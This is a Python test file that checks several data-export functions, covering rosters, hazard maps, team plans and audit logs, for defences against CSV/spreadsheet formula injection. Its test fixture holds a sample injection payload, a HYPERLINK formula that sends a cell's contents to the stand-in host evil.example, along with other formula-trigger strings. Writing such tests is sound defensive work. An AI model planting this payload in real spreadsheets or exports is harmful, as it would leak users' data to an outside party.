"""Every export writes text a spreadsheet would run as inert text (CSV injection)."""

import csv
import io

import geopandas as gpd
import pytest
from openpyxl import load_workbook
from shapely.geometry import Point

from services.gateway.planning.entrypoints.plan_exports import team_csv
from services.hazards.adapters.exports import export
from services.registry.adapters.ledger_files import write_csv, write_xlsx
from shared.audit import to_csv
from shared.exports import cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_text_gets_an_apostrophe(text):
    assert cell(text) == "'" + text


def test_plain_values_stay_as_they_are():
    assert [cell(v) for v in ("王**", "2026-07-01", 12, -3.5, None, "")] == \
        ["王**", "2026-07-01", 12, -3.5, None, ""]


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_registry_rosters_csv_and_xlsx():
    assert "'" + ATTACK in _csv_cells(write_csv(["address"], [[ATTACK]]).decode("utf-8-sig"))
    book = load_workbook(io.BytesIO(write_xlsx(["address"], [[ATTACK]], "roster")))
    value = book.active.cell(row=2, column=1).value  # type: ignore[union-attr]
    assert value == "'" + ATTACK and book.active.cell(row=2, column=1).data_type == "s"  # type: ignore[union-attr]


def test_hazards_gateway_plan_and_audit_exports():
    frame = gpd.GeoDataFrame({"id": ["h1"], "name": [ATTACK]},
                             geometry=[Point(106.6, 28.9)], crs="EPSG:4326")
    body, _, _ = export(frame, "csv")
    assert "'" + ATTACK in _csv_cells(body.decode("utf-8-sig"))
    team = {"shifts": [{"day": "2026-07-01", "start": "16:00", "end": "19:00", "stops": [
        {"point_id": "p1", "hazard_id": "h1", "name": ATTACK, "lon": 106.6, "lat": 28.9,
         "arrive_min": 5, "exposure_tenths": 10}]}]}
    assert "'" + ATTACK in _csv_cells(team_csv(team))
    assert "'" + ATTACK in _csv_cells(to_csv([{"purpose": ATTACK}]))
